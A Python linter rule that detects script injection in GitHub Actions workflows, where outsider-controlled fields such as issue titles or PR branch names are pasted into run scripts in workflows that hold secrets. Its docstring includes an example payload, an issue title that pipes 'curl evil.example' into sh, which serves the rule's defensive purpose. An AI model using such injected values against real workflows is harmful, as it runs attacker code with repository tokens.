import re
from collections.abc import Iterator

from roadworthy import Finding, Severity, Workflow, rule
from roadworthy_rules.pipeline._shared import is_own_change

#: What people outside write, as GitHub's "Script injections" lists it.
_UNTRUSTED = re.compile(
    r"\$\{\{[^{}]*?\b(github\.head_ref"
    r"|github\.event\.(?:issue|pull_request|comment|review|review_comment|discussion)\.(?:title|body)"
    r"|github\.event\.pull_request\.head\.(?:ref|label)|github\.event\.pull_request\.head\.repo\.default_branch"
    r"|github\.event\.(?:commits|pages)\S*?\.(?:message|page_name)|github\.event\.head_commit\.message"
    r"|github\.event\.(?:head_commit|commits\S*?)\.author\.(?:name|email)"
    r"|github\.event\.workflow_run\.head_branch)\b"
)
#: Events that outsiders start, and that have secrets.
_EXPOSED = frozenset(
    "discussion discussion_comment issue_comment issues pull_request_review pull_request_review_comment"
    " pull_request_target workflow_run".split()
)
_SIZE = 20_000


@rule(Severity.ERROR, since="0.1", security=9.3, cwe=78)
def untrusted_input_in_script(workflow: Workflow) -> Iterator[Finding]:
    """A script contains text that outsiders control.

    GitHub replaces `${{ }}` before the shell reads the script, so an issue titled `"; curl evil.example | sh`
    runs as a command with the workflow's token. Pass the value through `env:` and use the variable, quoted.

    The rule reports fields that outsiders control, in workflows that they can start and that have secrets. It
    ignores commit hashes, numbers, `matrix` and outcomes, and names of branches in jobs that only run for
    changes of the repository itself.

    ```yaml good
    on: {workflow_run: {workflows: [test], types: [completed]}}
    jobs:
      release:
        if: github.event.workflow_run.event == 'push'
        steps:
          - run: echo "${{ github.event.workflow_run.head_branch }}"
    ```
    ```yaml bad
    on: {workflow_run: {workflows: [test], types: [completed]}}
    jobs:
      release:
        steps:
          - run: echo "${{ github.event.workflow_run.head_branch }}"
    ```

    ```yaml bad
    on: issues
    jobs:
      greet:
        steps:
          - run: echo "${{ github.event.issue.title }}"
    ```
    ```yaml good
    on: issues
    jobs:
      greet:
        steps:
          - run: echo "$TITLE" "${{ github.sha }}" "${{ github.event.issue.number }}"
            env:
              TITLE: ${{ github.event.issue.title }}
    ```
    """
    if workflow.triggers.isdisjoint(_EXPOSED):
        return
    for at, step in workflow.steps():
        given = step.get("with")
        uses = str(step.get("uses"))
        texts = [(at / "run", step.get("run"))]
        if uses.startswith("actions/github-script") and isinstance(given, dict):
            texts.append((at / "with" / "script", given.get("script")))
        for place, text in texts:
            found = _UNTRUSTED.search(text[:_SIZE]) if isinstance(text, str) else None
            if found and not (
                "head" in found[1] and is_own_change(workflow.get(object, *at.route[:2], "if"))
            ):
                yield Finding(f"`{found[1]}` is inserted into a script", place)
